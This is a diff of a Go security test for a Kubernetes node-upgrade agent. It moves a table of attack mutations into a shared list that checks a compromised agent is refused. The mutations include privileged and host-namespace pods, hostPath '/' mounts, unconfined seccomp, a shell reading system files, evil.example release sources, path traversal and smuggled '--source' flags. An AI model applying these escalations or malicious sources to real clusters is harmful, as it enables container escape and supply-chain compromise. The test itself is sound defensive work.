@@ -9,6 +9,7 @@ import (
 	batchv1 "k8s.io/api/batch/v1"
 	coordinationv1 "k8s.io/api/coordination/v1"
 	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/kubernetes"
@@ -33,9 +34,24 @@ func agentOnA(ctx context.Context, t *testing.T) (*rest.Config, kubernetes.Inter
 	t.Helper()
 	testenv.Need(t, env)
 	apply(ctx, t, env.Config, manifest.AccessObjects(agentOpts))
+	defaultServiceAccount(ctx, t, agentOpts.Namespace)
 	podOn(ctx, t, agentOpts.Namespace, manifest.AgentName, "node-b")
 	cfg := podOn(ctx, t, agentOpts.Namespace, manifest.AgentName, "node-a")
 	return cfg, kubernetes.NewForConfigOrDie(cfg)
+}
+
+// defaultServiceAccount creates ns's default ServiceAccount, as
+// kube-controller-manager does in every namespace of a cluster (the
+// control plane of these tests runs none): a Pod with no ServiceAccount
+// runs as it, and the API server refuses a Pod whose ServiceAccount does
+// not exist.
+func defaultServiceAccount(ctx context.Context, t *testing.T, ns string) {
+	t.Helper()
+	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: ns}}
+	_, err := kubernetes.NewForConfigOrDie(env.Config).CoreV1().ServiceAccounts(ns).Create(ctx, sa, metav1.CreateOptions{})
+	if err != nil && !apierrors.IsAlreadyExists(err) {
+		t.Fatal(err)
+	}
 }
 
 // legitJob is the Job the agent on node-a really creates for a slot of ch.
@@ -61,7 +77,7 @@ func channelOf(spec v1.UpdateChannelSpec) *v1.UpdateChannel {
 
 // TestAgentCreatesOnlyItsOwnNodesUpgradeJobs (issue 22, right 1): the agent
 // on node-a creates the Jobs it really builds, and no Job of another node,
-// another shape, another namespace, and no pod at all.
+// another shape, another namespace (its Pods: TestAgentCreatesOnlyItsOwnNodesSlotPods).
 func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
 	defer cancel()
@@ -89,75 +105,6 @@ func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 		}
 	}
 	attacks := map[string]func(*batchv1.Job){
-		"for another node": func(j *batchv1.Job) { j.Spec.Template.Spec.NodeName = "node-b" },
-		"for the scheduler to place": func(j *batchv1.Job) {
-			j.Spec.Template.Spec.NodeName = ""
-			j.Spec.Template.Spec.NodeSelector = map[string]string{"kubernetes.io/hostname": "node-b"}
-		},
-		"privileged": func(j *batchv1.Job) {
-			c(j).SecurityContext.Privileged, c(j).SecurityContext.AllowPrivilegeEscalation = ptr.To(true), nil
-		},
-		"escalating":        func(j *batchv1.Job) { c(j).SecurityContext.AllowPrivilegeEscalation = nil },
-		"with SYS_PTRACE":   func(j *batchv1.Job) { add(c(j), "SYS_PTRACE") },
-		"in the host's PID": func(j *batchv1.Job) { j.Spec.Template.Spec.HostPID = true },
-		"on the host's net": func(j *batchv1.Job) { j.Spec.Template.Spec.HostNetwork = true },
-		"with the host's / as system dir": func(j *batchv1.Job) {
-			j.Spec.Template.Spec.Volumes[0].HostPath.Path = "/"
-		},
-		"with /etc as a mirror": func(j *batchv1.Job) { vol(j, "mirror").HostPath.Path = "/etc" },
-		"with the mirror writable": func(j *batchv1.Job) {
-			for i := range c(j).VolumeMounts {
-				c(j).VolumeMounts[i].ReadOnly = false
-			}
-		},
-		"of another image":        func(j *batchv1.Job) { c(j).Image = "evil:latest" },
-		"running a shell":         func(j *batchv1.Job) { c(j).Command = []string{"/bin/sh", "-c", "cat /k3os/system/*"} },
-		"running another command": func(j *batchv1.Job) { c(j).Args = []string{"config", "apply"} },
-		"with an API token":       func(j *batchv1.Job) { j.Spec.Template.Spec.AutomountServiceAccountToken = nil },
-		"as another ServiceAccount": func(j *batchv1.Job) {
-			j.Spec.Template.Spec.ServiceAccountName = manifest.AgentName
-		},
-		"reading another Secret": func(j *batchv1.Job) {
-			c(j).Env = []corev1.EnvVar{{Name: "GITHUB_TOKEN", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
-				LocalObjectReference: corev1.LocalObjectReference{Name: "other"}, Key: "token"}}}}
-		},
-		// The release source (whoever wrote the node's channel view, a
-		// compromised controller included, cannot choose it).
-		"downloading from another host":         func(j *batchv1.Job) { setSource(j, "https://evil.example/o/r/releases") },
-		"downloading another GitHub repository": func(j *batchv1.Job) { setSource(j, "https://github.example/evil/r/releases") },
-		"downloading another github channel":    func(j *batchv1.Job) { setSource(j, "github-releases://evil/r") },
-		"escaping the mirror":                   func(j *batchv1.Job) { setSource(j, "file:///srv/mirror/../../etc") },
-		"naming a second source": func(j *batchv1.Job) {
-			c(j).Args = append(c(j).Args, "--source", "https://evil.example/releases")
-		},
-		"naming its source as --source=": func(j *batchv1.Job) { c(j).Args = append(c(j).Args, "--source=https://evil.example/releases") },
-		"naming its source as -source":   func(j *batchv1.Job) { c(j).Args = append(c(j).Args, "-source", "https://evil.example/releases") },
-		"upgrading from the default source": func(j *batchv1.Job) {
-			i := slices.Index(c(j).Args, "--source")
-			c(j).Args = slices.Delete(c(j).Args, i, i+2)
-		},
-		"with an init container": func(j *batchv1.Job) {
-			j.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "i", Image: agentOpts.Image}}
-		},
-		// What a deny-list admitted: the Job is compared with its canonical shape.
-		"running another slipway command in a lifecycle hook": func(j *batchv1.Job) {
-			c(j).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "upgrade", "--source", "https://evil.example/"}}}}
-		},
-		"running another slipway command in a probe": func(j *batchv1.Job) {
-			c(j).StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "rollback"}}}}
-		},
-		"with seccomp Unconfined": func(j *batchv1.Job) {
-			c(j).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
-		},
-		"with the pod's seccomp Unconfined": func(j *batchv1.Job) {
-			j.Spec.Template.Spec.SecurityContext = &corev1.PodSecurityContext{SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}}
-		},
-		"as SELinux spc_t":     func(j *batchv1.Job) { c(j).SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"} },
-		"with a hostPort":      func(j *batchv1.Job) { c(j).Ports = []corev1.ContainerPort{{ContainerPort: 22, HostPort: 22}} },
-		"system-node-critical": func(j *batchv1.Job) { j.Spec.Template.Spec.PriorityClassName = "system-node-critical" },
-		"with a writable volume over /etc/ssl/certs": func(j *batchv1.Job) {
-			c(j).VolumeMounts = append(c(j).VolumeMounts, corev1.VolumeMount{Name: "system", MountPath: "/etc/ssl/certs"})
-		},
 		"with a manual selector": func(j *batchv1.Job) {
 			j.Spec.ManualSelector = ptr.To(true)
 			j.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{protocol.LabelJobNode: "node-a"}}
@@ -168,18 +115,10 @@ func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 		"with a pod label drains leave alone": func(j *batchv1.Job) {
 			j.Spec.Template.Labels[protocol.LabelAppName] = protocol.ControllerApp
 		},
-		"with the proc mount unmasked": func(j *batchv1.Job) {
-			j.Spec.Template.Spec.HostUsers, c(j).SecurityContext.ProcMount = ptr.To(false), ptr.To(corev1.UnmaskedProcMount)
-		},
-		"with a sysctl": func(j *batchv1.Job) {
-			j.Spec.Template.Spec.SecurityContext = &corev1.PodSecurityContext{Sysctls: []corev1.Sysctl{{Name: "kernel.shm_rmid_forced", Value: "1"}}}
-		},
-		"with another system directory flag": func(j *batchv1.Job) { c(j).Args = append(c(j).Args, "--system-dir", "/run/k3os") },
-		"with an unknown flag":               func(j *batchv1.Job) { c(j).Args = append(c(j).Args, "--config", "/etc/evil") },
-		"suspended":                          func(j *batchv1.Job) { j.Spec.Suspend = ptr.To(true) },
-		"managed by another controller":      func(j *batchv1.Job) { j.Spec.ManagedBy = ptr.To("example.com/evil") },
-		"kept for ever":                      func(j *batchv1.Job) { j.Spec.TTLSecondsAfterFinished = nil },
-		"with a finalizer on its pod":        func(j *batchv1.Job) { j.Spec.Template.Finalizers = []string{"example.com/pin"} },
+		"suspended":                     func(j *batchv1.Job) { j.Spec.Suspend = ptr.To(true) },
+		"managed by another controller": func(j *batchv1.Job) { j.Spec.ManagedBy = ptr.To("example.com/evil") },
+		"kept for ever":                 func(j *batchv1.Job) { j.Spec.TTLSecondsAfterFinished = nil },
+		"with a finalizer on its pod":   func(j *batchv1.Job) { j.Spec.Template.Finalizers = []string{"example.com/pin"} },
 		// Its identity: every name, label and annotation a reader trusts is its own node's.
 		"named for another node": func(j *batchv1.Job) {
 			j.Name = protocol.JobName(protocol.JobKindUpgrade, "node-b", "v2", "abcdef", "1")
@@ -206,6 +145,9 @@ func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 			j.Spec.Template.Annotations[protocol.AnnotationJobAction] = protocol.JobActionStage
 		},
 	}
+	for name, edit := range podSpecAttacks {
+		attacks[name] = func(j *batchv1.Job) { edit(&j.Spec.Template.Spec) }
+	}
 	for name, edit := range attacks {
 		j := mirror.DeepCopy()
 		edit(j)
@@ -216,27 +158,123 @@ func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
 	if why := refused(second(asAgent.BatchV1().Jobs("default").Create(ctx, mirror.DeepCopy(), dry)), ""); why != "" {
 		t.Errorf("a Job in another namespace: %s", why)
 	}
-	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "p"}, Spec: mirror.Spec.Template.Spec}
-	if why := refused(second(asAgent.CoreV1().Pods(agentOpts.Namespace).Create(ctx, pod, dry)), ""); why != "" {
-		t.Errorf("a pod: %s", why)
-	}
 }
 
-func c(j *batchv1.Job) *corev1.Container { return &j.Spec.Template.Spec.Containers[0] }
+// podSpecAttacks change the pod of an agent's Job (its template) or of its
+// slot Pod into what a compromised agent might ask for: each is refused
+// on both.
+var podSpecAttacks = map[string]func(*corev1.PodSpec){
+	"for another node": func(s *corev1.PodSpec) { s.NodeName = "node-b" },
+	"for the scheduler to place": func(s *corev1.PodSpec) {
+		s.NodeName = ""
+		s.NodeSelector = map[string]string{"kubernetes.io/hostname": "node-b"}
+	},
+	"privileged": func(s *corev1.PodSpec) {
+		c(s).SecurityContext.Privileged, c(s).SecurityContext.AllowPrivilegeEscalation = ptr.To(true), nil
+	},
+	"escalating":        func(s *corev1.PodSpec) { c(s).SecurityContext.AllowPrivilegeEscalation = nil },
+	"with SYS_PTRACE":   func(s *corev1.PodSpec) { add(c(s), "SYS_PTRACE") },
+	"in the host's PID": func(s *corev1.PodSpec) { s.HostPID = true },
+	"in the host's IPC": func(s *corev1.PodSpec) { s.HostIPC = true },
+	"on the host's net": func(s *corev1.PodSpec) { s.HostNetwork = true },
+	"with the host's / as system dir": func(s *corev1.PodSpec) {
+		s.Volumes[0].HostPath.Path = "/"
+	},
+	"with /etc as a mirror": func(s *corev1.PodSpec) { vol(s, "mirror").HostPath.Path = "/etc" },
+	"with a third host path": func(s *corev1.PodSpec) {
+		s.Volumes = append(s.Volumes, corev1.Volume{Name: "etc", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc"}}})
+		c(s).VolumeMounts = append(c(s).VolumeMounts, corev1.VolumeMount{Name: "etc", MountPath: "/host/etc"})
+	},
+	"with the mirror writable": func(s *corev1.PodSpec) {
+		for i := range c(s).VolumeMounts {
+			c(s).VolumeMounts[i].ReadOnly = false
+		}
+	},
+	"of another image":        func(s *corev1.PodSpec) { c(s).Image = "evil:latest" },
+	"running a shell":         func(s *corev1.PodSpec) { c(s).Command = []string{"/bin/sh", "-c", "cat /k3os/system/*"} },
+	"running another command": func(s *corev1.PodSpec) { c(s).Args = []string{"config", "apply"} },
+	"with an API token":       func(s *corev1.PodSpec) { s.AutomountServiceAccountToken = nil },
+	"with an API token mounted as a volume": func(s *corev1.PodSpec) {
+		s.Volumes = append(s.Volumes, corev1.Volume{Name: "token", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
+			Sources: []corev1.VolumeProjection{{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}}}}}})
+		c(s).VolumeMounts = append(c(s).VolumeMounts, corev1.VolumeMount{Name: "token", MountPath: "/var/run/secrets/kubernetes.io/serviceaccount"})
+	},
+	"as another ServiceAccount": func(s *corev1.PodSpec) {
+		s.ServiceAccountName = manifest.AgentName
+	},
+	"reading another Secret": func(s *corev1.PodSpec) {
+		c(s).Env = []corev1.EnvVar{{Name: "GITHUB_TOKEN", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
+			LocalObjectReference: corev1.LocalObjectReference{Name: "other"}, Key: "token"}}}}
+	},
+	// The release source (whoever wrote the node's channel view, a
+	// compromised controller included, cannot choose it).
+	"downloading from another host":         func(s *corev1.PodSpec) { setSource(s, "https://evil.example/o/r/releases") },
+	"downloading another GitHub repository": func(s *corev1.PodSpec) { setSource(s, "https://github.example/evil/r/releases") },
+	"downloading another github channel":    func(s *corev1.PodSpec) { setSource(s, "github-releases://evil/r") },
+	"escaping the mirror":                   func(s *corev1.PodSpec) { setSource(s, "file:///srv/mirror/../../etc") },
+	"naming a second source": func(s *corev1.PodSpec) {
+		c(s).Args = append(c(s).Args, "--source", "https://evil.example/releases")
+	},
+	"naming its source as --source=": func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "--source=https://evil.example/releases") },
+	"naming its source as -source":   func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "-source", "https://evil.example/releases") },
+	"upgrading from the default source": func(s *corev1.PodSpec) {
+		i := slices.Index(c(s).Args, "--source")
+		c(s).Args = slices.Delete(c(s).Args, i, i+2)
+	},
+	"with a second container": func(s *corev1.PodSpec) {
+		s.Containers = append(s.Containers, corev1.Container{Name: "sidecar", Image: agentOpts.Image})
+	},
+	"with a second toleration": func(s *corev1.PodSpec) {
+		s.Tolerations = append(s.Tolerations, corev1.Toleration{Key: "example.com/x", Operator: corev1.TolerationOpEqual, Value: "y"})
+	},
+	"with an init container": func(s *corev1.PodSpec) {
+		s.InitContainers = []corev1.Container{{Name: "i", Image: agentOpts.Image}}
+	},
+	// What a deny-list admitted: the pod is compared with its canonical shape.
+	"running another slipway command in a lifecycle hook": func(s *corev1.PodSpec) {
+		c(s).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "upgrade", "--source", "https://evil.example/"}}}}
+	},
+	"running another slipway command in a probe": func(s *corev1.PodSpec) {
+		c(s).StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "rollback"}}}}
+	},
+	"with seccomp Unconfined": func(s *corev1.PodSpec) {
+		c(s).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
+	},
+	"with the pod's seccomp Unconfined": func(s *corev1.PodSpec) {
+		s.SecurityContext = &corev1.PodSecurityContext{SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}}
+	},
+	"as SELinux spc_t":     func(s *corev1.PodSpec) { c(s).SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"} },
+	"with a hostPort":      func(s *corev1.PodSpec) { c(s).Ports = []corev1.ContainerPort{{ContainerPort: 22, HostPort: 22}} },
+	"system-node-critical": func(s *corev1.PodSpec) { s.PriorityClassName = "system-node-critical" },
+	"with a writable volume over /etc/ssl/certs": func(s *corev1.PodSpec) {
+		c(s).VolumeMounts = append(c(s).VolumeMounts, corev1.VolumeMount{Name: "system", MountPath: "/etc/ssl/certs"})
+	},
+	"with the proc mount unmasked": func(s *corev1.PodSpec) {
+		s.HostUsers, c(s).SecurityContext.ProcMount = ptr.To(false), ptr.To(corev1.UnmaskedProcMount)
+	},
+	"with a sysctl": func(s *corev1.PodSpec) {
+		s.SecurityContext = &corev1.PodSecurityContext{Sysctls: []corev1.Sysctl{{Name: "kernel.shm_rmid_forced", Value: "1"}}}
+	},
+	"with another system directory flag": func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "--system-dir", "/run/k3os") },
+	"with an unknown flag":               func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "--config", "/etc/evil") },
+}
 
-// setSource sets the value after the Job's --source.
-func setSource(j *batchv1.Job, source string) {
-	c(j).Args[slices.Index(c(j).Args, "--source")+1] = source
+// c is the container of pod spec s.
+func c(s *corev1.PodSpec) *corev1.Container { return &s.Containers[0] }
+
+// setSource sets the value after the container's --source.
+func setSource(s *corev1.PodSpec, source string) {
+	c(s).Args[slices.Index(c(s).Args, "--source")+1] = source
 }
 
 func add(ct *corev1.Container, cp corev1.Capability) {
 	ct.SecurityContext.Capabilities.Add = append(ct.SecurityContext.Capabilities.Add, cp)
 }
 
-func vol(j *batchv1.Job, name string) *corev1.Volume {
-	for i, v := range j.Spec.Template.Spec.Volumes {
+func vol(s *corev1.PodSpec, name string) *corev1.Volume {
+	for i, v := range s.Volumes {
 		if v.Name == name {
-			return &j.Spec.Template.Spec.Volumes[i]
+			return &s.Volumes[i]
 		}
 	}
 	panic("no volume " + name)
